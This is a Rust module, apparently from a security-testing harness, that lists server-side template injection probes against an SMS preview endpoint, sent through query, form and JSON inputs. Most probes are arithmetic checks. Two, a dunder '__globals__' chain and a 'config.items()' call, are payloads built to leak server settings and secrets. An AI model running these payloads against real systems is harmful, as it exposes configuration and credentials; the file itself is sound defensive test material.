//! Template injection into the SMS preview.

use serde_json::json;

use super::encode::json_escaped;
use super::{Attack, AttackClass, Encoding, Place, Proof};
use crate::drill::request::Request;
use crate::portal::SECRET_MARK;

fn ssti(place: Place, encoding: Encoding, name: &'static str, request: Request, proof: Proof) -> Attack {
    Attack::new(AttackClass::Ssti, place, encoding, name, request, proof)
}

pub(super) fn all() -> Vec<Attack> {
    use Encoding::{JsonEscape, Percent, Plain};
    use Place::{Form, Json, Query};
    const PRODUCT: Proof = Proof::Leaks("10201");
    let query = |template: &str| Request::get("/sms/preview").query("template", template);
    let post = || Request::post("/sms/preview");
    vec![
        ssti(Query, Percent, "product in braces", query("{{101*101}}"), PRODUCT),
        ssti(Query, Percent, "product in a dollar expression", query("${101*101}"), PRODUCT),
        ssti(Form, Percent, "product in a hash expression", post().form(&[("template", "您好 #{101*101}")]), PRODUCT),
        ssti(
            Form,
            Percent,
            "settings by a dunder chain",
            post().form(&[("template", "{{self.__init__.__globals__}}")]),
            Proof::Leaks(SECRET_MARK),
        ),
        ssti(Json, Plain, "product in a page expression", post().json(&json!({"template": "<%= 101*101 %>"})), PRODUCT),
        ssti(
            Json,
            JsonEscape,
            "settings by a call",
            post().body("application/json", json_escaped("template", "{{config.items()}}")),
            Proof::Leaks(SECRET_MARK),
        ),
    ]
}
